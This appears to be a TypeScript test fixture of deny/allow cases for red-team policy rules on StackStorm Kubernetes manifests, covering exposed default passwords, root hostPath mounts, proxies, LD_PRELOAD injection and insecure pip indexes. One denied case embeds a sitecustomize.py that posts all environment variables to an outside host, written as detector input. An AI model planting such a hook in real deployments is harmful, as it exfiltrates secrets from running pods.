/**
 * rules.test.ts's cases for the tenth red team's edge rules (the overlays are
 * in test/policy/redteam/fresh11-*.ts): ST2-EXP-016, ST2-HRD-023 and
 * ST2-SEC-022..024 (and ST2-SEC-030, the same class's native preloads), each
 * denied and allowed through the compiled wasm.
 */
import type { Manifest } from '../../src/core/manifest.js';
import type { Severity } from '../../src/policy/types.js';
import { configMap, haWorkload, secret, service, workload } from './support.js';

interface Expected {
  readonly rule: string;
  readonly severity: Severity;
  readonly field?: string;
  readonly message?: string;
}

export interface Fresh11Case {
  readonly name: string;
  readonly rule: string;
  readonly environment: string | undefined;
  readonly resources: () => Manifest[];
  readonly expected: Expected | 'allowed';
  readonly others?: readonly string[];
}

const deny = (rule: string, extra: Omit<Expected, 'rule' | 'severity'> = {}): Expected => ({ rule, severity: 'deny', ...extra });

/** st2auth making its htpasswd from a Secret holding this password, behind a Service of this type. */
function auth(password: string, type: string, annotations: Record<string, string> = {}): Manifest[] {
  const svc = service('st2auth', 'st2auth', type);
  return [
    secret('st2-auth', { stringData: { username: 'st2admin', password } }),
    ...haWorkload('st2auth', 2, { container: { env: [{ name: 'ST2_AUTH_PASSWORD', valueFrom: { secretKeyRef: { name: 'st2-auth', key: 'password' } } }] } }),
    { ...svc, metadata: { ...(svc['metadata'] as Manifest), annotations } },
  ];
}

/** The timers engine: an st2 pod that holds st2's config and runs alone, so nothing else fires. */
const runner = (container: Manifest, pod: Manifest = {}): Manifest[] => [workload('st2timersengine', { container, pod })];
const env = (vars: Record<string, string>): Manifest => ({ env: Object.entries(vars).map(([name, value]) => ({ name, value })) });
/** An st2 pod mounting a ConfigMap of libraries at /opt/preload, with this LD_PRELOAD. */
const preloading = (ldPreload: string): Manifest[] => [
  configMap('runner-preload', { 'libaudit.so': 'ELF' }),
  ...runner({ ...env({ LD_PRELOAD: ldPreload }), volumeMounts: [{ name: 'preload', mountPath: '/opt/preload' }] }, { volumes: [{ name: 'preload', configMap: { name: 'runner-preload' } }] }),
];
const hooks = (text: string): Manifest[] => [
  configMap('runner-hooks', { 'sitecustomize.py': text }),
  ...runner({ ...env({ PYTHONPATH: '/opt/hooks' }), volumeMounts: [{ name: 'hooks', mountPath: '/opt/hooks' }] }, { volumes: [{ name: 'hooks', configMap: { name: 'runner-hooks' } }] }),
];

export function fresh11RuleCases(): Fresh11Case[] {
  return [
    { name: "dev st2auth with the chart's password on an open LoadBalancer is denied", rule: 'ST2-EXP-016', environment: 'dev', resources: () => auth('Ch@ngeMe', 'LoadBalancer'), expected: deny('ST2-EXP-016', { field: 'spec.type', message: 'component=st2auth' }) },
    { name: 'st2auth with a generated password on a ClusterIP Service is allowed', rule: 'ST2-EXP-016', environment: 'staging', resources: () => auth('kX9-generated-Password', 'ClusterIP'), expected: 'allowed' },
    {
      name: "a dev runner mounting the node's / is denied",
      rule: 'ST2-HRD-023',
      environment: 'dev',
      resources: () => [workload('st2actionrunner', { pod: { volumes: [{ name: 'host', hostPath: { path: '/' } }] } })],
      expected: deny('ST2-HRD-023', { message: 'hostPath /' }),
    },
    { name: 'an st2 pod with an emptyDir scratch volume is allowed', rule: 'ST2-HRD-023', environment: 'production', resources: () => runner({}, { volumes: [{ name: 'scratch', emptyDir: {} }] }), expected: 'allowed' },
    {
      name: 'an st2 pod behind an outside HTTP_PROXY without NO_PROXY is denied',
      rule: 'ST2-SEC-022',
      environment: 'production',
      resources: () => runner(env({ HTTP_PROXY: 'http://proxy.outside-vendor.net:3128' })),
      expected: deny('ST2-SEC-022', { message: 'host=proxy.outside-vendor.net' }),
    },
    { name: "an st2 pod behind an outside proxy that NO_PROXY keeps off st2's services is allowed", rule: 'ST2-SEC-022', environment: 'production', resources: () => runner(env({ HTTP_PROXY: 'http://proxy.corp.example.net:3128', NO_PROXY: 'st2api,st2auth,st2stream,.svc' })), expected: 'allowed' },
    {
      name: 'a sitecustomize posting to an outside host is denied',
      rule: 'ST2-SEC-023',
      environment: 'production',
      resources: () => hooks("import os, urllib.request\nurllib.request.urlopen('https://telemetry.example.io/v1', data=str(os.environ).encode())\n"),
      expected: deny('ST2-SEC-023', { message: 'file=/opt/hooks/sitecustomize.py' }),
    },
    { name: 'a sitecustomize setting log levels is allowed', rule: 'ST2-SEC-023', environment: 'production', resources: () => hooks('import logging\nlogging.getLogger("urllib3").setLevel(logging.WARNING)\n'), expected: 'allowed' },
    { name: 'a library from a ConfigMap preloaded into an st2 pod is denied', rule: 'ST2-SEC-030', environment: 'production', resources: () => preloading('/opt/preload/libaudit.so'), expected: deny('ST2-SEC-030', { message: 'file=/opt/preload/libaudit.so' }) },
    { name: "jemalloc preloaded from the image beside that ConfigMap is allowed", rule: 'ST2-SEC-030', environment: 'production', resources: () => preloading('/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'), expected: 'allowed' },
    {
      name: "an st2 pod's pip index over plain http is denied",
      rule: 'ST2-SEC-024',
      environment: 'production',
      resources: () => runner(env({ PIP_INDEX_URL: 'http://pypi-mirror.example.net/simple' })),
      expected: deny('ST2-SEC-024', { message: 'problem=plain-http' }),
    },
    { name: "an st2 pod's pip index over https is allowed", rule: 'ST2-SEC-024', environment: 'production', resources: () => runner(env({ PIP_INDEX_URL: 'https://pypi-mirror.example.net/simple' })), expected: 'allowed' },
  ];
}
